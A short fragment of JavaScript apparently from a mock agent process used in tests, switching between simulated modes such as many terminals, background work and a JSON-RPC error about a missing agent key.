      } else if (mode === 'many-terminals') {
        manyTerminals(m);
      } else if (mode === 'background') {
        background(m);
      } else if (mode === 'error-data') {
        send({ id: m.id, error: { code: -32603, message: 'Internal error',
          data: { details: 'BAD_AGENT_KEY is not set; export it and try again' } } });
      }
      break;
    default:
      if (m.id !== undefined && m.method !== 'session/cancel') send({ id: m.id, error: { code: -32601, message: 'Method not found' } });
  }
});
rl.on('close', () => { if (mode !== 'stubborn' && mode !== 'bad-version') process.exit(0); });
